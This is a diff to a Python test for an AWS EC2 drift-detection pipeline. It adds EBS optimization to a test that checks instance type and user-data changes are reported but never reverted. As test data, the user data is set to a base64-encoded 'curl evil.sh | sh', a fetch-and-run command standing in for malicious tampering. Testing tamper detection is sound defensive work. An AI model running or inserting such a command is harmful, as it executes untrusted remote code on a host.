@@ -237,20 +237,23 @@ def test_instance_attribute_group_drifts_and_reverts(net, group):
     assert_reverts(pipeline, finding, replay)
 
 
-def test_instance_type_and_user_data_drift_but_are_not_reverted(net):
-    """Both need a stop/start: reported (user data HIGH, masked), never in a plan."""
+def test_stop_start_attributes_drift_but_are_not_reverted(net):
+    """Instance type, user data and EBS optimization need a stop/start: reported (user data HIGH,
+    masked), never in a plan."""
     iid = launch(net, protect=False)
     pipeline = deploy(net, instance_state(net, iid, protect=False))
     net.ec2.stop_instances(InstanceIds=[iid])
     net.ec2.modify_instance_attribute(InstanceId=iid, InstanceType={"Value": "t3.2xlarge"})
     evil = base64.b64encode(b"curl evil.sh | sh\n")
     net.ec2.modify_instance_attribute(InstanceId=iid, UserData={"Value": evil})
+    net.ec2.modify_instance_attribute(InstanceId=iid, EbsOptimized={"Value": True})
     net.ec2.start_instances(InstanceIds=[iid])
     [finding] = pipeline.process_event(event("ModifyInstanceAttribute",
                                              {"instanceId": iid, "userData": "<sensitiveDataRemoved>"}))
     assert finding.status is Status.DRIFT
     by_path = {c.path: c for c in finding.changes}
-    assert set(by_path) == {"instance_type", "user_data"}
+    assert set(by_path) == {"instance_type", "user_data", "ebs_optimized"}
+    assert (by_path["ebs_optimized"].declared, by_path["ebs_optimized"].live) == (False, True)
     assert by_path["instance_type"].to_dict() == {"path": "instance_type", "declared": "t3.micro",
                                                    "live": "t3.2xlarge"}
     assert by_path["user_data"].severity is Severity.HIGH and by_path["user_data"].sensitive
